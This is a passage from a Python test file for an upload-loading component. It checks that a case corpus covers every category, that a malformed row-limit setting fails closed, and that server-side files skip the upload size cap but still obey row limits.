        case.check(result)


def test_the_corpus_covers_every_category_of_the_issue():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)
    assert {c.category for c in CASES} == CATEGORIES


def test_a_malformed_limit_setting_fails_closed(monkeypatch):
    monkeypatch.setenv(limits.ROWS_ENV, "lots")
    with pytest.raises(ValueError, match=limits.ROWS_ENV):
        load_sources(upload())


def test_files_on_disk_are_not_held_to_the_upload_size(monkeypatch, tmp_path):
    # the command line and the deployment cohort read the server's own files; rows still count
    monkeypatch.setenv(limits.UPLOAD_ENV, "1")
    for source in upload(labs__csv=repetitive_labs(60_000)):
        (tmp_path / source.name).write_bytes(source.data)
    assert load_paths([tmp_path]).ok
    monkeypatch.setenv(limits.ROWS_ENV, "1000")
    assert any("more than 1,000 rows" in p.problem for p in load_paths([tmp_path]).errors)
